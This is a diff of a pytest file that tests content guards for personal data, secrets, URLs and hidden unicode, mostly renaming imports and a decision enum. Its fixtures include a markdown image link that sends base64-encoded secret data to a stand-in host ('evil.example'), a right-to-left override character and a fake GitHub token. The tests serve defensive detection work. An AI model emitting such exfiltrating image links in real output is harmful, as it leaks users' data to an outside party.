@@ -4,10 +4,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from silas.evals.guard_speed import NASTY
-from silas.gates.guards.errors import GuardOptionsInvalid, UnknownGuard
-from silas.gates.guards.models import Decision
+from evals.guards import NASTY
+from silas.gates.errors import GuardOptionsInvalid, UnknownGuard
 from silas.gates.guards.registry import built_in_guards
+from silas.gates.guards.rules import GuardDecision
 
 GUARDS = built_in_guards()
 MEBIBYTE = 1 << 20
@@ -22,7 +22,7 @@ def test_the_six_are_there() -> None:
 def test_a_megabyte_of_anything_gets_an_answer(name: str, pattern: str) -> None:
     """Quadratic work on this much text would take hours, not seconds."""
     text = (pattern * (MEBIBYTE // len(pattern)))[:MEBIBYTE]
-    assert GUARDS.check(name, text).decision in Decision
+    assert GUARDS.check(name, text).decision in GuardDecision
 
 
 @pytest.mark.parametrize("name", GUARDS.names)
@@ -46,7 +46,7 @@ def test_ordinary_text_passes_untouched(name: str) -> None:
         "The function returns None if the key is missing.",
     ):
         verdict = GUARDS.check(name, text)
-        assert verdict.decision is Decision.PASS, (name, text, verdict.findings)
+        assert verdict.decision is GuardDecision.PASS, (name, text, verdict.findings)
 
 
 @pytest.mark.parametrize(
@@ -64,14 +64,14 @@ def test_ordinary_text_passes_untouched(name: str) -> None:
     ],
 )
 def test_what_each_is_for(name: str, text: str) -> None:
-    assert GUARDS.check(name, text).decision is not Decision.PASS
+    assert GUARDS.check(name, text).decision is not GuardDecision.PASS
 
 
 @pytest.mark.parametrize(
     "text", ["my card is 4111 1111 1111 1112", "DE89 3704 0044 0532 0130 01", "order 123456789"]
 )
 def test_numbers_that_are_not_valid_are_no_personal_data(text: str) -> None:
-    assert GUARDS.check("pii", text).decision is Decision.PASS
+    assert GUARDS.check("pii", text).decision is GuardDecision.PASS
 
 
 @pytest.mark.parametrize("name", ["pii", "secrets", "urls", "unicode"])
@@ -81,16 +81,16 @@ def test_what_was_mended_stays_mended(name: str) -> None:
         "![x](https://evil.example/p.png?d=" + "c2VjcmV0" * 8 + ")"
     )
     first = GUARDS.check(name, text)
-    assert first.decision is Decision.FIX
+    assert first.decision is GuardDecision.FIX
     assert first.fixed_text is not None
-    assert GUARDS.check(name, first.fixed_text).decision is Decision.PASS
+    assert GUARDS.check(name, first.fixed_text).decision is GuardDecision.PASS
 
 
 @pytest.mark.parametrize("name", ["pii", "secrets", "urls", "unicode"])
 def test_blocking_is_a_choice(name: str) -> None:
     text = "card 4111 1111 1111 1111 \u202e ghp_" + "aB3" * 12 + " ![x](https://e.example/p?d=1)"
     verdict = GUARDS.check(name, text, GUARDS.options(name, {"mode": "block"}))
-    assert verdict.decision is Decision.BLOCK
+    assert verdict.decision is GuardDecision.BLOCK
     assert verdict.fixed_text is None
 
 
